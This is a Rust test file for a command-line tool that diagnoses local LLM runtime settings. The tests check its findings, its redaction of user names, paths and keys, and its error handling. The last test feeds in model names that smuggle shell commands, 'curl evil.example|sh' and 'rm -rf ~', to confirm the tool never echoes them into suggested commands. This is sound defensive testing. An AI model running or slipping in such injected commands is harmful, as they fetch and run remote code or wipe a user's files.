//! `diagnose` on saved sets, on the built program.
#![expect(clippy::unwrap_used, reason = "tests may")]

use serde_json::Value;
use std::path::PathBuf;
use std::process::{Command, Output};

fn set(name: &str) -> String {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../tests/observations").join(name);
    path.to_str().unwrap().to_owned()
}

fn diagnose(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_whichbox-cli")).arg("diagnose").args(args).output().unwrap()
}

fn text(out: &Output) -> String {
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8(out.stdout.clone()).unwrap()
}

#[test]
fn a_saved_set_of_the_founding_case_gives_its_three_findings() {
    let out = diagnose(&["--json", "--from", &set("found/founding-case.json")]);
    let answer: Value = serde_json::from_str(&text(&out)).unwrap();
    let rules: Vec<_> = answer["findings"].as_array().unwrap().iter().map(|it| it["rule"].as_str().unwrap()).collect();
    assert_eq!(rules, ["context-cap-below-native", "prompt-over-cap", "timeout-shorter-than-prefill"]);
    let said = text(&diagnose(&["--from", &set("found/founding-case.json")]));
    assert!(said.contains("3 settings look like weak hardware"), "{said}");
    assert!(said.contains("PARAMETER num_ctx 262144") && said.contains("ollama rm"), "{said}");
}

/// Every message of every finding exists and has all its variables: what is missing would show as an id or in braces.
#[test]
fn every_finding_is_said_in_words() {
    let folder = set("found");
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        let said = text(&diagnose(&["--from", path.to_str().unwrap()]));
        let gap =
            ["finding-", "effect-", "hand-", "risk-", "lacking-", "rule-", "step-", "seen-", "{$", "{ $", " none "]
                .iter()
                .find(|it| said.contains(**it));
        assert!(gap.is_none(), "{}: {gap:?} in\n{said}", path.display());
        assert!(said.lines().all(|line| line.chars().count() <= 100), "{said}");
    }
}

#[test]
fn a_healthy_machine_is_called_healthy() {
    let said = text(&diagnose(&["--from", &set("healthy/mac-studio-ollama.json")]));
    assert!(said.starts_with("Nothing found."), "{said}");
}

#[test]
fn what_is_saved_is_read_again() {
    let folder = tempfile::tempdir().unwrap();
    let saved = folder.path().join("seen.json");
    let saved = saved.to_str().unwrap();
    let first = text(&diagnose(&["--json", "--from", &set("found/founding-case.json"), "--save", saved]));
    assert_eq!(text(&diagnose(&["--json", "--from", saved])), first);
}

/// A set as somebody has it at home: names, paths, a key and a prompt in every place that takes a text of theirs.
fn at_home() -> (Value, [&'static str; 6]) {
    let text = std::fs::read_to_string(set("found/founding-case.json")).unwrap();
    let text = text.replace("qwen3-coder:v-128k", "/Users/alice/secret-plan:v-128k");
    let mut seen: Value = serde_json::from_str(&text).unwrap();
    seen["machine"]["product"] = "Alice's Mac Studio".into();
    seen["machine"]["os_version"] = "26.1 (alice@studio.example)".into();
    seen["runtimes"][0]["devices"][0]["name"] = "/home/alice/gpu".into();
    seen["runtimes"][0]["settings"]["unknown_names"] = serde_json::json!(["ALICE_TOKEN", "OLLAMA_FLASH_ATTN"]);
    seen["clients"][0]["version"] = "sk-proj-0123456789abcdef0123456789abcdef".into();
    (seen, ["alice", "Alice", "ALICE", "secret", "0123456789abcdef", "/Users"])
}

#[test]
fn a_saved_set_holds_no_names_paths_or_keys() {
    let folder = tempfile::tempdir().unwrap();
    let (seen, traces) = at_home();
    let (from, to) = (folder.path().join("seen.json"), folder.path().join("saved.json"));
    std::fs::write(&from, seen.to_string()).unwrap();
    text(&diagnose(&["--from", from.to_str().unwrap(), "--save", to.to_str().unwrap()]));
    let saved = std::fs::read_to_string(&to).unwrap();
    assert!(traces.iter().all(|it| !saved.contains(it)), "{saved}");
    assert!(saved.contains(":v-128k") && saved.contains("OLLAMA_FLASH_ATTN"), "what the rules read is there: {saved}");
}

#[test]
fn answers_and_reports_hold_no_names_paths_or_keys_of_what_was_seen() {
    let folder = tempfile::tempdir().unwrap();
    let (seen, traces) = at_home();
    let question = std::fs::read_to_string(set("../scenarios/founding.json")).unwrap();
    let mut question: Value = serde_json::from_str(&question).unwrap();
    question["current"] = serde_json::json!({ "machine": "mac-studio-m2-ultra-64gb", "observations": seen });
    let scenario = folder.path().join("question.json");
    std::fs::write(&scenario, question.to_string()).unwrap();
    let run = |args: &[&str]| {
        let asked = ["--scenario", scenario.to_str().unwrap(), "--as-of", "2026-11-21"];
        let out = Command::new(env!("CARGO_BIN_EXE_whichbox-cli")).args(args).args(asked).output().unwrap();
        assert!(out.status.success(), "{args:?}: {}", String::from_utf8_lossy(&out.stderr));
        String::from_utf8(out.stdout).unwrap()
    };
    let clean = |what: &str, text: &str| assert!(traces.iter().all(|it| !text.contains(it)), "{what}: {text}");
    for args in [&["recommend"][..], &["recommend", "--json"]] {
        let said = run(args);
        assert!(said.contains("131") && said.contains("262"), "the finding is there: {said}");
        clean("recommend", &said);
    }
    for ending in ["md", "csv", "json", "pdf"] {
        let out = folder.path().join(format!("report.{ending}"));
        run(&["report", "--out", out.to_str().unwrap()]);
        let bytes = std::fs::read(&out).unwrap();
        if ending == "pdf" {
            // What the pages say is what the Markdown says; the question is attached.
            let attached = whichbox_report::scenario_in(&bytes, "report.pdf").unwrap();
            assert!(attached.current.as_ref().unwrap().observations.is_some());
            clean("pdf", &serde_json::to_string(&attached).unwrap());
        } else {
            clean(ending, &String::from_utf8(bytes).unwrap());
        }
    }
}

#[test]
fn bad_sets_are_refused_in_one_line() {
    let folder = tempfile::tempdir().unwrap();
    let bad = folder.path().join("bad.json");
    std::fs::write(&bad, r#"{ "version": 1, "machine": { "owner": "somebody" } }"#).unwrap();
    for path in [bad.to_str().unwrap(), "no-such-file.json"] {
        let out = diagnose(&["--from", path]);
        assert_eq!(out.status.code(), Some(2));
        let said = String::from_utf8(out.stderr).unwrap();
        assert!(said.starts_with("error[") && said.trim_end().lines().count() == 1, "{said}");
    }
    assert_eq!(diagnose(&["--from", "x.json", "--ollama", "http://127.0.0.1:1"]).status.code(), Some(2));
}

#[test]
fn this_machine_is_looked_at_and_answered_about() {
    let answer: Value = serde_json::from_str(&text(&diagnose(&["--json"]))).unwrap();
    let count = |field: &str| answer[field].as_array().unwrap().len();
    assert_eq!(count("checked") + count("not_applicable") + count("not_checked"), 38);
    // What was looked at is told, whatever was found there.
    assert_eq!(answer["observations"]["runtimes"].as_array().unwrap().len(), 5);
    assert!(answer["observations"]["machine"]["memory_total"].is_u64(), "{}", answer["observations"]);
    let said = text(&diagnose(&[]));
    for name in ["What was looked at", "Ollama", "llama.cpp", "LM Studio", "vLLM", "MLX", "OpenClaw", "Claude Code"] {
        assert!(said.contains(name), "{name} in\n{said}");
    }
}

#[test]
fn a_file_that_is_there_is_not_replaced_unasked() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("seen.json");
    std::fs::write(&path, "mine").unwrap();
    let from = set("found/founding-case.json");
    let save = ["--from", &from, "--save", path.to_str().unwrap()];
    let out = diagnose(&save);
    assert_eq!(out.status.code(), Some(2));
    assert_eq!(std::fs::read_to_string(&path).unwrap(), "mine");
    text(&diagnose(&[&save[..], &["--replace"]].concat()));
    assert!(std::fs::read_to_string(&path).unwrap().contains("version"));
}

#[test]
fn what_could_not_be_checked_names_its_rule() {
    let said = text(&diagnose(&["--from", &set("healthy/container-without-runtime.json")]));
    assert!(said.contains("Context cut short") && said.contains("Missing: a runtime"), "{said}");
    assert!(!said.contains("Nothing found. "), "with nothing running nothing is known to be well: {said}");
}

/// A runtime may call its models what it likes. What it says is shown, and no command is made of it.
#[test]
fn a_hostile_name_writes_no_command() {
    let folder = tempfile::tempdir().unwrap();
    let text_of = std::fs::read_to_string(set("found/founding-case.json")).unwrap();
    let path = folder.path().join("seen.json");
    for (name, fine) in [("x; curl evil.example|sh #:v-128k", true), ("x\\nrm -rf ~\\n:v-128k", false)] {
        std::fs::write(&path, text_of.replace("qwen3-coder:v-128k", name)).unwrap();
        let out = diagnose(&["--from", path.to_str().unwrap()]);
        assert_eq!(out.status.success(), fine, "{}", String::from_utf8_lossy(&out.stderr));
        let said = String::from_utf8(out.stdout).unwrap();
        for line in said.lines().filter(|it| it.starts_with("     ")) {
            assert!(!line.contains("curl") && !line.contains("rm -rf"), "{line} in\n{said}");
        }
        assert!(!said.contains("ollama rm") && !said.contains("ollama create"), "{said}");
    }
}
